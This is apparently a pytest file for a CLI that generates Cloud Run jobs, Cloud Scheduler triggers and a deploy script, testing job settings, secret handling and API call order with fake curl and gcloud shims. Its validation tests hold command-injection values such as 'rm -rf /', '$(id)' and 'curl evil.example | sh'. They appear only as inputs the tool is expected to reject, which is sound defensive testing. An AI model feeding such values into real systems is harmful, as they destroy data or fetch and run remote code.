"""The files for Cloud Run and Cloud Scheduler: Google's own messages, and safe commands."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from google.cloud import run_v2, scheduler_v1

from lib.cli import cli
from lib.places import ROOT
from tests.deploy.conftest import ScheduleOf

IMAGE = "us-west2-docker.example/nba/runbooks:1.0"
PLACE = "projects/nba-props-platform/locations/us-west2"
HOURLY = {
    "runbook": "day1_monitoring",
    "cron": "0 * * * *",
    "timezone": "America/New_York",
    "retries": 2,
    "retry_delay_seconds": 60,
    "timeout_seconds": 900,
}
BACKFILL = ("cloud-run-backfill", "daily_quality", "--over", "date=2026-01-01..2026-01-31")


@pytest.fixture(autouse=True)
def environments(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The shipped environments; production notifies two channels."""
    folder = tmp_path / "environments"
    folder.mkdir()
    for path in (ROOT / "params" / "environments").iterdir():
        settings = yaml.safe_load(path.read_text(encoding="utf-8"))
        channels = [{"variable": "RUNBOOK_SLACK_URL"}, {"variable": "RUNBOOK_PAGER_URL", "minimum": "FAIL"}]
        (folder / path.name).write_text(yaml.safe_dump({**settings, "notifications": {"channels": channels}}))
    monkeypatch.setenv("RUNBOOK_ENVIRONMENTS", str(folder))
    monkeypatch.setenv("RUNBOOK_SLACK_URL", "slack://not-to-be-seen/anywhere")
    return folder


def deploy(
    folder: Path, *words: str, image: str = IMAGE, outputs: str = "gs://nba-runbooks/archive", env: str = "production"
) -> Result:
    chosen = ["--env", env, "--image", image, "--outputs", outputs, "--output", str(folder)]
    return CliRunner().invoke(cli, ["deploy", *words, *chosen])


def job_in(file: Path) -> run_v2.Job:
    return run_v2.Job.from_json(file.read_text(encoding="utf-8"), ignore_unknown_fields=False)


def test_an_entry_becomes_a_job_and_its_trigger(tmp_path: Path, schedule_of: ScheduleOf) -> None:
    schedule_of("production", {"day1_hourly": HOURLY})
    folder = tmp_path / "my deploy"
    result = deploy(folder, "cloud-run")
    assert result.exit_code == 0, result.output

    job = job_in(folder / "runbook-day1-hourly.job.json")
    task = job.template.template
    [container] = task.containers
    assert job.name == f"{PLACE}/jobs/runbook-day1-hourly"
    # Arguments of the image's entry point, `runbook`.
    assert list(container.args) == ["schedule", "once", "--entry", "day1_hourly", "--stop-grace-seconds", "0"]
    assert container.image == IMAGE
    # Three attempts, two delays, and a margin for each.
    assert task.timeout.total_seconds() == 3 * (900 + 300) + 2 * 60
    assert task.service_account == "runbooks@nba-props-platform.iam.gserviceaccount.com"

    trigger = scheduler_v1.Job.from_json(
        (folder / "runbook-day1-hourly.trigger.json").read_text(encoding="utf-8"), ignore_unknown_fields=False
    )
    assert (trigger.schedule, trigger.time_zone) == ("0 * * * *", "America/New_York")
    assert trigger.http_target.uri == f"https://run.googleapis.com/v2/{job.name}:run"
    assert trigger.http_target.http_method == scheduler_v1.HttpMethod.POST
    assert trigger.http_target.oauth_token.service_account_email == task.service_account


def test_cloud_run_itself_does_not_retry(tmp_path: Path, schedule_of: ScheduleOf) -> None:
    """It would repeat FAIL verdicts; without the field, it retries three times."""
    schedule_of("production", {"hourly": HOURLY})
    deploy(tmp_path, "cloud-run")
    written = json.loads((tmp_path / "runbook-hourly.job.json").read_text(encoding="utf-8"))
    assert written["template"]["template"]["maxRetries"] == 0


def test_secrets_are_named_and_never_written(tmp_path: Path, schedule_of: ScheduleOf) -> None:
    schedule_of("production", {"hourly": HOURLY})
    result = deploy(tmp_path / "out", "cloud-run")
    job = job_in(tmp_path / "out" / "runbook-hourly.job.json")
    plain, *secret = job.template.template.containers[0].env
    assert (plain.name, plain.value) == ("RUNBOOK_OUTPUTS", "gs://nba-runbooks/archive")
    assert {variable.name: variable.value_source.secret_key_ref.secret for variable in secret} == {
        "RUNBOOK_SLACK_URL": "RUNBOOK_SLACK_URL",
        "RUNBOOK_PAGER_URL": "RUNBOOK_PAGER_URL",
    }
    texts = [path.read_text(encoding="utf-8") for path in (tmp_path / "out").iterdir()]
    assert not any("not-to-be-seen" in text for text in [*texts, result.output])


# The Cloud Scheduler job does not exist yet, so its update fails; the operation is done at the second poll.
CURL = r"""#!/bin/sh
printf "%s|" curl "$@" >> calls; echo >> calls
operation=projects/p/locations/l/operations/o-1
case $* in
    *PATCH*cloudscheduler*) exit 22 ;;
    *PATCH*) echo "{\"name\": \"$operation\", \"metadata\": {\"name\": \"projects/p/locations/l/jobs/j\"}}" ;;
    *:wait*) if [ -e looked ]; then rm looked; cat end; else touch looked; echo "{\"name\": \"$operation\"}"; fi ;;
esac
"""
GCLOUD = """#!/bin/sh
printf "%s|" gcloud "$@" >> calls; echo >> calls
echo token
"""
DONE = '{"done": true, "response": {}}'


def run_script(folder: Path, script: str, end: str = DONE) -> tuple[subprocess.CompletedProcess[str], list[list[str]]]:
    """Run a script in a real shell with fakes for curl and gcloud; return its result and calls."""
    for name, text in {"curl": CURL, "gcloud": GCLOUD, "end": end}.items():
        (folder / name).write_text(text)
        (folder / name).chmod(0o755)
    path = f"{folder}:{os.environ['PATH']}"
    ended = subprocess.run(
        ["sh", "-eu"],
        input=script,
        cwd=folder,
        env={**os.environ, "PATH": path},
        text=True,
        capture_output=True,
        check=False,
    )
    return ended, [line.split("|") for line in (folder / "calls").read_text().splitlines()]


def test_the_commands_send_each_file_to_its_api(tmp_path: Path, schedule_of: ScheduleOf) -> None:
    schedule_of("production", {"hourly": HOURLY, "nightly": {**HOURLY, "cron": "0 4 * * *"}})
    folder = tmp_path / "my deploy"
    script = deploy(folder, "cloud-run").output
    ended, called = run_script(tmp_path, script)
    assert ended.returncode == 0, ended.stderr
    sent = [
        (words[words.index("--request") + 1], words[-2], words[words.index("--data") + 1])
        for words in called
        if words[0] == "curl"
    ]
    run, scheduler = "https://run.googleapis.com/v2", "https://cloudscheduler.googleapis.com/v1"
    for name in ("runbook-hourly", "runbook-nightly"):
        assert ("PATCH", f"{run}/{PLACE}/jobs/{name}?allowMissing=true", f"@{folder}/{name}.job.json") in sent
        assert ("PATCH", f"{scheduler}/{PLACE}/jobs/{name}", f"@{folder}/{name}.trigger.json") in sent
        assert ("POST", f"{scheduler}/{PLACE}/jobs", f"@{folder}/{name}.trigger.json") in sent
        assert any(words[:5] == ["gcloud", "run", "jobs", "add-iam-policy-binding", name] for words in called)
    before = {path.name: path.read_bytes() for path in folder.iterdir()}
    assert deploy(folder, "cloud-run").output == script
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before


def test_a_job_is_started_only_after_its_update(tmp_path: Path) -> None:
    """Until the operation is done, the old version would run."""
    script = deploy(tmp_path / "out", *BACKFILL).output
    ended, called = run_script(tmp_path, script)
    assert ended.returncode == 0, ended.stderr
    wait = "https://run.googleapis.com/v2/projects/p/locations/l/operations/o-1:wait"
    calls = [words[-2] if words[0] == "curl" else words[3] for words in called if "print-access-token" not in words]
    assert calls == [
        f"https://run.googleapis.com/v2/{PLACE}/jobs/backfill-daily-quality?allowMissing=true",
        wait,
        wait,
        "execute",
    ]


def test_a_refused_job_is_not_started(tmp_path: Path) -> None:
    script = deploy(tmp_path / "out", *BACKFILL).output
    ended, called = run_script(tmp_path, script, end='{"done": true, "error": {"message": "no such image"}}')
    assert ended.returncode == 1
    assert "no such image" in ended.stderr
    assert not any("execute" in words for words in called)


def test_a_backfill_is_shared_by_tasks(tmp_path: Path) -> None:
    result = deploy(tmp_path / "out", *BACKFILL, "--tasks", "4", "--timeout-seconds", "600", "-p", "days=14")
    assert result.exit_code == 0, result.output
    [file] = (tmp_path / "out").iterdir()
    job = job_in(file)
    assert (job.template.task_count, job.template.parallelism) == (4, 4)
    assert job.template.template.timeout.total_seconds() == 8 * (600 + 300)  # 31 dates by 4
    arguments = list(job.template.template.containers[0].args)
    assert arguments[:4] == ["run", "daily_quality", "--env", "production"]
    assert "--cloud-run-task" in arguments
    assert arguments[-2:] == ["-p", "days=14"]
    assert "gcloud run jobs execute backfill-daily-quality " in result.output


def test_an_entry_and_a_backfill_are_never_the_same_job(tmp_path: Path, schedule_of: ScheduleOf) -> None:
    schedule_of("production", {"backfill-daily-quality": HOURLY})
    assert deploy(tmp_path, "cloud-run").exit_code == 0
    before = {path.name: path.read_bytes() for path in tmp_path.glob("*.json")}
    assert deploy(tmp_path, *BACKFILL).exit_code == 0
    after = {path.name: path.read_bytes() for path in tmp_path.glob("*.json")}
    assert {**after, **before} == after
    assert len(after) == len(before) + 1


@pytest.mark.parametrize(
    ("entries", "options", "expected"),
    [
        ({"hourly": HOURLY}, {"env": "local"}, "environment local has the platform embedded"),
        ({"hourly": HOURLY}, {"image": "runbooks:1.0; rm -rf /"}, "Cloud Run needs an image"),
        ({"hourly": HOURLY}, {"image": "$(id)"}, "Cloud Run needs an image"),
        ({"hourly": HOURLY}, {"outputs": "/var/outputs"}, "Cloud Run needs a bucket"),
        ({"hourly": HOURLY}, {"outputs": "gs://bucket/'$(id)'"}, "Cloud Run needs a bucket"),
        ({"hourly": {**HOURLY, "cron": "0 9 * * 5L"}}, {}, "without extensions"),
        ({"hourly": {**HOURLY, "timeout_seconds": 600_000}}, {}, "stops every task after a week"),
        ({"a_b": HOURLY, "a-b": HOURLY}, {}, "the same job name runbook-a-b"),
        ({"ends-with-": HOURLY}, {}, "the job's name is 'runbook-ends-with-'"),
        ({"hourly": {**HOURLY, "environment": "local"}}, {}, "no entries for production; it has entries for local"),
    ],
)
def test_a_job_that_cloud_run_would_refuse_is_one_line(
    entries: dict[str, Any], options: dict[str, str], expected: str, tmp_path: Path, schedule_of: ScheduleOf
) -> None:
    schedule_of("production", entries)
    result = deploy(tmp_path / "out", "cloud-run", **options)
    assert result.exit_code == 2
    [line] = result.output.splitlines()
    assert expected in line
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("place", ["project_id", "region"])
def test_an_environment_cannot_inject_a_command(place: str, environments: Path, tmp_path: Path) -> None:
    file = environments / "production.yaml"
    file.write_text(yaml.safe_dump({**yaml.safe_load(file.read_text()), place: "x; curl evil.example | sh"}))
    result = deploy(tmp_path / "out", *BACKFILL)
    assert result.exit_code == 2
    assert result.output.startswith(f"runbook: {place} is ")
